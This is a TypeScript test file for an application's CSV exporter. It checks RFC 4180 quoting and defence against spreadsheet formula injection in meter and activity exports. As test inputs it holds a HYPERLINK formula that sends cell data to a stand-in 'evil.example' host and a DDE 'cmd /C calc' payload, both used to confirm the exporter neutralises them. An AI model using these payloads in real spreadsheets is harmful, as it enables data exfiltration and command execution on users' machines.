/**
 * The one CSV writer: RFC 4180 quoting, text cells guarded against spreadsheet formulas (OWASP's list),
 * numbers left numbers; and every export of the Core written with it, meters included (their names come
 * from the controller).
 */
import { describe, expect, it } from 'vitest';
import type { ActivityEntry, MeterReading } from '../../src-preload/model';
import { csvDocument, csvField, utcCell } from '../../src-main/shared/csv';
import { activityCsv } from '../../src-main/core/activity/activity-export';
import { meterCsv } from '../../src-main/core/meters/meter-csv';
import { MeterSeries } from '../../src-main/core/meters/meter-history';

describe('the CSV writer', () => {
  it('guards every text cell a spreadsheet would run as a formula, and nothing else', () => {
    for (const formula of ['=1+1', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx', '\nx', '\u0000x'])
      expect(csvField(formula).replace(/^"/, '').startsWith("'"), JSON.stringify(formula)).toBe(true);
    expect(csvField('Bench A')).toBe('Bench A');
    expect(csvField("it's")).toBe("it's");
    expect(csvField('a=b')).toBe('a=b');
  });

  it('quotes fields with commas, quotes and line breaks (RFC 4180), after guarding', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
  });

  it('writes numbers as numbers (-3.2 stays -3.2), and empty cells for nothing or no number', () => {
    expect(csvDocument(['a', 'b', 'c', 'd', 'e'], [[-3.2, 0, null, undefined, Number.NaN]])).toBe(
      'a,b,c,d,e\r\n-3.2,0,,,\r\n',
    );
  });

  it('writes an empty cell for a time no Date can hold, never NaN or an exception', () => {
    expect(utcCell(Date.UTC(2026, 10, 24, 8, 0, 0))).toBe('2026-11-24T08:00:00.000Z');
    expect(utcCell(null)).toBe('');
    expect(utcCell(9e15)).toBe('');
    expect(utcCell(Number.NaN)).toBe('');
  });
});

describe('the exports', () => {
  it('meters: a name the controller sent is never a formula, and negative readings stay numbers', () => {
    const series = new MeterSeries();
    const meter = (key: string, name: string, value: number): MeterReading => ({
      key,
      name,
      quantity: 'other',
      bus: null,
      value,
      unit: '',
    });
    series.add(Date.UTC(2024, 4, 1, 10, 0, 0), [
      meter('a', '=HYPERLINK("http://evil.example/?"&A2,"click")', -3.2),
      meter('b', "@SUM(1+9)*cmd|' /C calc'!A0", 5),
      meter('c', '-2+3', -0.5),
    ]);
    const [header, row] = meterCsv(series).split('\r\n');
    expect(header).toBe(
      `time,"'=HYPERLINK(""http://evil.example/?""&A2,""click"")",'@SUM(1+9)*cmd|' /C calc'!A0,'-2+3`,
    );
    expect(row).toBe('2024-05-01T10:00:00.000Z,-3.2,5,-0.5');
  });

  it('activity: every text cell is guarded, numbers (outlet, batch, count) are not', () => {
    const entry: ActivityEntry = {
      id: 7,
      time: Date.UTC(2026, 10, 24, 8, 0, 0),
      controllerId: 'c1',
      controllerName: '=Bench',
      outlet: 3,
      action: '+on',
      source: 'pdudaemon-tcp',
      who: '@client',
      result: 'error',
      error: { code: 'RESERVED', message: '-reserved' },
      outletName: '=Router',
      batch: 7,
      count: 12,
      lastTime: Date.UTC(2026, 10, 24, 8, 0, 30),
    };
    expect(activityCsv([entry]).split('\r\n')[1]).toBe(
      "2026-11-24T08:00:00.000Z,'=Bench,3,'+on,pdudaemon-tcp,'@client,error,RESERVED,'-reserved,'=Router,7,12,2026-11-24T08:00:30.000Z",
    );
  });
});
